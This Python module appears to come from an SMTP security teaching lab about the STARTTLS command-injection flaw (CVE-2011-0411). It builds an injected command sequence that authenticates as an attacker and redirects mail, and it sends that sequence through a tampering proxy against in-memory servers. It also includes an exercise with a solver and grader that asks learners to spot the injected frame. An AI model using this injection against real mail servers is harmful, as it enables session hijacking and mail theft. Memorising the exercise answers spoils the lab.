"""What if somebody puts commands behind STARTTLS? A server that keeps them obeys them inside TLS (CVE-2011-0411)."""

from contextlib import closing
from random import Random
from smtplib import SMTP
from ssl import create_default_context
from typing import Any, Final

from smtplab.capture.record import Capture
from smtplab.lessons.attacks.cast import MALLORY, PASSWORD
from smtplab.lessons.cast import MAIL, USERS
from smtplab.lessons.exercises import Wrong, number_of
from smtplab.lessons.rehearsal import CLIENT, HOSTS, mailboxes, shuffled
from smtplab.lessons.strangers import StrangersExercise
from smtplab.net.client import Client
from smtplab.net.memory import MemoryConnection, MemoryServer
from smtplab.net.tampering_proxy import TamperingProxy
from smtplab.protocol.auth import encode
from smtplab.protocol.tampering import Append, Tamperer, Tampering
from smtplab.protocol.transcript import Entry, Kind

TEST01, TEST02 = USERS

LOGIN: Final = encode(f"\0{MALLORY}\0{PASSWORD}".encode())

# As many commands as the victim will say up to its mail: each gets a reply that fits.
INJECTED: Final = (
    f"EHLO {CLIENT}\r\nAUTH PLAIN {LOGIN}\r\nMAIL FROM:<{MALLORY}>\r\nRCPT TO:<{MALLORY}>\r\nDATA\r\n"
).encode()


def send_as_victim(proxy: TamperingProxy) -> None:
    """Send a mail as test01 with Python's own client, which insists on TLS and checks the certificate."""
    with closing(SMTP(proxy.host, proxy.port, CLIENT)) as victim:
        victim.starttls(context=create_default_context(cadata=proxy.authority_pem))
        victim.login(TEST01, USERS[TEST01])
        victim.sendmail(TEST01, [TEST02], MAIL)
        victim.quit()


class _Middle:
    """A server in memory, with somebody before it: what a `Client` needs to know of it."""

    def __init__(self, server: MemoryServer, tampering: Tampering) -> None:
        self.host, self.port, self.authority_pem = server.host, server.port, server.authority_pem
        self.network = self
        self._server = server
        self._tampering = tampering

    def connect(self, host: str, port: int, timeout: float, *, allow_remote: bool = False) -> "_Tampered":
        connection = self._server.network.connect(host, port, timeout)
        return _Tampered(connection, Tamperer(self._tampering))


class _Tampered:
    """A connection of which the client's side is tampered with."""

    def __init__(self, connection: MemoryConnection, tamperer: Tamperer) -> None:
        self._tamperer = tamperer
        self._connection = connection
        self.getsockname, self.getpeername = connection.getsockname, connection.getpeername
        self.settimeout, self.recv, self.close = connection.settimeout, connection.recv, connection.close

    def sendall(self, octets: bytes) -> None:
        self._connection.sendall(self._tamperer.client(octets).on)


class FrameOfInjection(StrangersExercise):
    """Find the frame in which somebody put commands behind STARTTLS."""

    form = "the number of a frame, such as `12`"
    hints = (
        "What may come behind STARTTLS in the same frame? RFC 3207 §4 says which command must be the last of a group.",
        "Look for lines in clear text after a STARTTLS and before the client hello. `entry.frame` tells where.",
    )

    def prepare(self, variant: Random) -> None:
        self._domain = variant.choice(HOSTS)
        self._sender, self._recipient = mailboxes(variant)
        sessions = ["clear", "clear", "starttls", "starttls"][variant.randint(0, 1) :]
        attack = variant.choice(("RSET", f"EHLO {CLIENT}", "NOOP", f"MAIL FROM:<{self._sender}>"))
        self._injected = f"{attack}\r\n".encode()
        self._sessions = [*shuffled(variant, sessions), "injected"]
        self._sessions.insert(variant.randint(1, len(self._sessions) - 1), self._sessions.pop())

    def record(self) -> Capture:
        server = MemoryServer(tls="starttls", domain=self._domain, extensions=("PIPELINING", "STARTTLS"))
        with Capture(server, live=False) as capture:
            for session in self._sessions:
                tampering = Append("STARTTLS", self._injected) if session == "injected" else Tampering()
                with Client(_Middle(server, tampering)) as client:
                    client.introduce(CLIENT, tls="never" if session == "clear" else "required")
                    client.send_message(self._sender, [self._recipient], "Subject: Hello\r\n\r\nHello!\r\n")
        return capture

    def solve(self) -> int:
        frames = [entry.frame for entry in self.transcript if _is_behind_starttls(entry)]
        assert frames[0] is not None
        return frames[0]

    def judge(self, answer: Any) -> str:
        frame = number_of(answer)
        if frame != self.solve():
            raise Wrong(f"Not frame {frame}. {self._why_not(frame)}")
        return (
            "STARTTLS and more in one frame: the client never said that. The server threw it away, as it must: all "
            "that it heard before TLS anybody could have said. RFC 3207 §4.2, §6."
        )

    def _why_not(self, frame: int) -> str:
        there = [entry for entry in self.transcript if frame in entry.frames]
        if not there:
            return "No word of SMTP is in it."
        if any(entry.tls or entry.kind is Kind.TLS for entry in there):
            return "That is TLS already: who has no keys cannot write anything into it."
        if any(entry.party == "server" for entry in there):
            return "The server says that, and it is the client's words that grew."
        if any(entry.verb == "STARTTLS" for entry in there):
            return "Behind this STARTTLS come 220 and the client hello, and nothing else. That is as it should be."
        if len(there) > 1:
            return "Several commands in one frame are what PIPELINING allows (RFC 2920 §3.1)."
        return "A command of its own, before any STARTTLS of this session."


def _is_behind_starttls(entry: Entry) -> bool:
    """Tell whether the client says this in clear text though TLS should begin."""
    return entry.party == "client" and entry.kind is Kind.COMMAND and entry.before.name == "TLS_HANDSHAKE"
